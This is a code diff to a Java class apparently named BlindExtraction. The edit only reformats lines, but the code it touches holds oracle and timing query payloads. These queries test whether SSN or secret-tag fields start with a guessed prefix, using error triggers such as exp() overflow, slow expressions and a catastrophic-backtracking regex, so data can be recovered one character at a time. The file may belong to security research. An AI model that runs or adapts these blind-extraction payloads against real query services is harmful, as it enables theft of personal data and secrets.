@@ -38,7 +38,9 @@ final class BlindExtraction {
                 "attribute",
                 "SELECT count(*) FROM AwsLambdaInvocationError WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0");
         oracles.put("custom-event", "SELECT count(*) FROM BravoLedger WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0");
-        oracles.put("span", "SELECT count(*) FROM Span WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0 SINCE 10 minutes ago");
+        oracles.put(
+                "span",
+                "SELECT count(*) FROM Span WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0 SINCE 10 minutes ago");
         oracles.put(
                 "function-tag",
                 "SELECT count(*) FROM lookup(functions) WHERE if(tags.secret LIKE '?%', exp(aws.memorySize * 100), 0) >= 0");
@@ -63,14 +65,15 @@ final class BlindExtraction {
         clocks.put(
                 "where",
                 "SELECT count(*) FROM AwsLambdaInvocationError WHERE if(ssn LIKE '?%', " + slow + ", 0) >= 0 /*#*/");
-        clocks.put("custom-event", "SELECT count(*) FROM BravoLedger WHERE if(ssn LIKE '?%', " + slow + ", 0) >= 0 /*#*/");
+        clocks.put(
+                "custom-event", "SELECT count(*) FROM BravoLedger WHERE if(ssn LIKE '?%', " + slow + ", 0) >= 0 /*#*/");
         clocks.put(
                 "rlike",
                 "SELECT count(*) FROM Span WHERE if(ssn LIKE '?%' AND note RLIKE r'(.*7.*3.*1.*)+x', 1, 0) > 5 /*#*/");
         clocks.put(
                 "lookup",
-                "SELECT count(*) FROM lookup(functions) WHERE if(tags.secret LIKE '?%', " + slow.replace("note", "tags.secret")
-                        + ", 0) >= 0 /*#*/");
+                "SELECT count(*) FROM lookup(functions) WHERE if(tags.secret LIKE '?%', "
+                        + slow.replace("note", "tags.secret") + ", 0) >= 0 /*#*/");
         return clocks;
     }
 
